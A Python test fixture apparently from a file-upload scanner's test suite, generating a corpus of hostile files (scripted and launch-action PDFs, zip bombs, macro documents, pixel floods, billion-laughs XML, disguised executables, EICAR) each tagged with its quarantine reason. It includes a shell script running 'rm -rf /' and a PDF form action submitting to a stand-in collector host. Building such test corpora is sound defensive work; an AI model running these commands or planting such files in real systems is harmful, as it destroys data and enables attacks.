"""The hostile half of the corpus: name, bytes and the one reason for which each must be quarantined."""

import gzip
import struct
from collections.abc import Iterator

import pikepdf
from odf import opendocument, text

from tests.support.corpus_makers import (
    PROSE,
    acting,
    attaching,
    compound,
    corrupted,
    encoded,
    hand_made_pdf,
    letter,
    linux_program,
    lying,
    macro_word,
    many_entries,
    marked_encrypted,
    open_document,
    overlapping,
    picture,
    png,
    saved,
    sound,
    tar,
    tiff_header,
    typeset,
    windows_program,
    word_parts,
    zipped,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
Bad = tuple[str, bytes, str]


def bad_pdfs() -> Iterator[Bad]:
    yield (
        "locked.pdf",
        saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted_pdf",
    )
    yield (
        "restricted.pdf",
        saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="")),
        "encrypted_pdf",
    )
    for name, action, reason in (
        ("script", {"/S": "/JavaScript", "/JS": "app.alert(1)"}, "scripted_pdf"),
        ("launch", {"/S": "/Launch", "/F": "cmd.exe"}, "pdf_launch_action"),
        ("submit", {"/S": "/SubmitForm", "/F": "http://collector.invalid/"}, "pdf_launch_action"),
        ("import", {"/S": "/ImportData", "/F": "x.fdf"}, "pdf_launch_action"),
        ("goto-embedded", {"/S": "/GoToE"}, "pdf_embedded_file"),
    ):
        yield f"{name}.pdf", acting(action), reason
        yield f"{name}-packed.pdf", acting(action, packed=True), reason
    yield (
        "escaped-name.pdf",
        hand_made_pdf("", catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "scripted_pdf",
    )
    for name, reason in (
        ("Launch", "pdf_launch_action"),
        ("SubmitForm", "pdf_launch_action"),
        ("ImportData", "pdf_launch_action"),
        ("GoToE", "pdf_embedded_file"),
        ("JavaScript", "scripted_pdf"),
    ):
        yield (
            f"indirect-{name}.pdf",
            hand_made_pdf("", catalog="/OpenAction << /F (cmd.exe) /S 4 0 R >>", more=(f"/{name}",)),
            reason,
        )
    yield "form.pdf", hand_made_pdf("", catalog="/AcroForm << /Fields [] /XFA (x) >>"), "scripted_pdf"
    yield (
        "annotated.pdf",
        hand_made_pdf("", page="/Annots [ << /Subtype /RichMedia >> ]"),
        "pdf_embedded_file",
    )
    for name, inside, reason in (
        ("setup.txt", windows_program(), "unsafe_attachment"),
        ("inner.pdf", acting({"/S": "/JavaScript", "/JS": "app.alert(1)"}), "unsafe_attachment"),
        ("papers.zip", zipped({"a.txt": b"a"}), "pdf_embedded_file"),
        ("page.html", b"<html><script>1</script></html>", "pdf_embedded_file"),
        ("call.wav", sound(), "pdf_embedded_file"),
        ("empty.txt", b"", "pdf_embedded_file"),
        ("noise.dat", bytes(range(256)) * 40, "pdf_embedded_file"),
        ("picture.txt", encoded(picture(), "PNG"), "pdf_embedded_file"),
        ("a/b.txt", b"inside", "pdf_embedded_file"),
    ):
        yield f"attached-{name.replace('/', '-')}.pdf", attaching(name, inside), reason
    yield (
        "attached-without-a-name.pdf",
        attaching("发票.xml", b"<a/>").replace(b"/EF ", b"/XX "),
        "pdf_embedded_file",
    )
    whole = typeset(PROSE * 20)
    yield "cut-off.pdf", whole[: len(whole) // 2], "malformed_pdf"
    yield "cut-at-the-end.pdf", whole[:-40], "malformed_pdf"
    yield "header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "malformed_pdf"
    yield (
        "no-pages.pdf",
        hand_made_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids []      /Count 0"),
        "malformed_pdf",
    )
    yield "deep.pdf", hand_made_pdf("", catalog="/JS " + "[" * 5000 + "]" * 5000), "malformed_pdf"


def bad_containers() -> Iterator[Bad]:
    yield "bomb.zip", zipped({"zeros": bytes(64 << 20)}), "archive_bomb"
    yield "many.zip", many_entries(12_000), "archive_bomb"
    yield "overlap.zip", overlapping(), "archive_bomb"
    yield "liar.zip", lying(), "archive_bomb"
    yield "bomb.docx", zipped({**word_parts(), "word/media/x.bin": bytes(64 << 20)}), "archive_bomb"
    yield "nested.zip", zipped({"inner.zip": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-renamed.zip", zipped({"harmless.dat": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-gz.zip", zipped({"a.gz": gzip.compress(b"a", mtime=0)}), "nested_archive"
    yield "nested-tar.zip", zipped({"a.tar": tar()}), "nested_archive"
    yield "program.zip", zipped({"setup.exe": windows_program()}), "executable"
    yield "macro-inside.zip", zipped({"x.docm": macro_word()}), "unsafe_attachment"
    yield "locked.zip", marked_encrypted(zipped({"a.txt": b"secret" * 10})), "encrypted_archive"
    yield "cut.zip", zipped({"a.txt": b"a" * 1000})[:-30], "malformed_file"
    paper = open_document(opendocument.OpenDocumentText(), text.P(text=PROSE))
    yield "lost-a-byte.odt", paper[:20] + paper[21:], "malformed_file"
    upper, lower = word_parts(), {name.lower(): part for name, part in word_parts().items()}
    yield "two-readings.docx", zipped({**upper, **lower}), "malformed_file"
    yield "macro-in-other-spelling.docx", zipped({**lower, "word\\VBAProject.bin": b"x"}), "macros"
    yield "corrupt.zip", corrupted(zipped({"a.txt": PROSE.encode() * 100})), "malformed_file"
    yield (
        "app.zip",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield (
        "library.jar",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield "macros.docm", macro_word(), "macros"
    yield "macros.docx", macro_word(), "macros"
    yield (
        "basic.odt",
        zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml": b"<x/>"},
            stored=True,
        ),
        "macros",
    )
    yield (
        "locked.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<m:encryption-data/>",
            },
            stored=True,
        ),
        "encrypted_office",
    )
    yield (
        "template.docx",
        zipped({**word_parts(), "word/_rels/settings.xml.rels": _REMOTE_TEMPLATE}),
        "external_reference",
    )
    yield (
        "package.docx",
        zipped({**word_parts(), "word/embeddings/o.bin": compound("\x01Ole10Native")}),
        "embedded_object",
    )
    yield "locked.docx", compound("EncryptionInfo", "EncryptedPackage"), "encrypted_office"
    yield "macros.doc", compound("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), "macros"
    yield "setup.msi", compound("SummaryInformation"), "unlisted_type"


def bad_images() -> Iterator[Bad]:
    yield "flood.png", png(60_000, 60_000, rows=b""), "pixel_flood"
    yield "flood.tif", tiff_header(50_000, 50_000), "pixel_flood"
    yield (
        "flood.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 50_000, 50_000, 1, 24, 0, 0, 0, 0, 0, 0),
        "pixel_flood",
    )
    yield (
        "flood.gif",
        b"GIF89a"
        + struct.pack("<HH", 65_000, 65_000)
        + b"\x00\x00\x00\x2c"
        + struct.pack("<HHHHB", 0, 0, 65_000, 65_000, 0)
        + b"\x02\x00\x3b",
        "pixel_flood",
    )
    yield "cut.png", encoded(picture(), "PNG")[:-200], "malformed_file"
    photo = encoded(picture(), "JPEG")
    yield "cut.jpg", photo[: len(photo) // 2], "malformed_file"


def bad_others() -> Iterator[Bad]:
    yield "empty.pdf", b"", "empty_file"
    yield "setup.exe", windows_program(), "executable"
    yield "invoice.pdf", windows_program(), "executable"
    yield "tool.jpg", linux_program(), "executable"
    yield "run.txt", b"#!/bin/sh\nrm -rf /\n", "executable"
    yield "page.html", b"<!DOCTYPE html><html><body>hi</body></html>", "active_content"
    yield "page.txt", b"<html><script>alert(1)</script></html>", "active_content"
    yield "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "active_content"
    yield (
        "drawing.xml",
        b'<?xml version="1.0"?><x:svg xmlns:x="http://www.w3.org/2000/svg"/>',
        "active_content",
    )
    yield "laughs.xml", b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', "active_content"
    yield "broken.xml", b'<?xml version="1.0"?><a><b></a>', "malformed_file"
    yield "broken.json", b'{"a": ', "malformed_file"
    yield "deep.json", b"[" * 200_000, "malformed_file"
    yield "photo.png", encoded(picture(), "JPEG"), "extension_mismatch"
    yield "paper.docx", typeset(PROSE), "extension_mismatch"
    yield "paper.pdf", PROSE.encode(), "extension_mismatch"
    yield "sound.mp3", sound(), "extension_mismatch"
    yield "no-extension", typeset(PROSE), "extension_mismatch"
    yield (
        "template.ott",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text-template"}),
        "unlisted_type",
    )
    yield "script.py", b"print('hello')\n", "unlisted_type"
    yield "noise.bin", bytes(range(256)) * 40, "unlisted_type"
    yield "archive.gz", gzip.compress(PROSE.encode(), mtime=0), "unlisted_type"
    yield "archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(50), "unlisted_type"
    yield "object.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "embedded_object"
    yield "cut.wav", sound()[:1000], "malformed_file"
    for name, data in (
        ("program.exe", windows_program()),
        ("macro.docm", macro_word()),
        ("locked.pdf", dict_of(bad_pdfs)["locked.pdf"]),
    ):
        mail = letter()
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
        yield f"{name}.eml", mail.as_bytes(), "unsafe_attachment"
    yield "not-a-mail.eml", PROSE.encode(), "malformed_file"


_REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r" TargetMode="External" Target="https://templates.invalid/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def dict_of(maker: object) -> dict[str, bytes]:
    """Name to bytes of one of the makers above."""
    return {row[0]: row[1] for row in maker()}  # type: ignore[operator]


HOSTILE = (bad_pdfs, bad_containers, bad_images, bad_others)
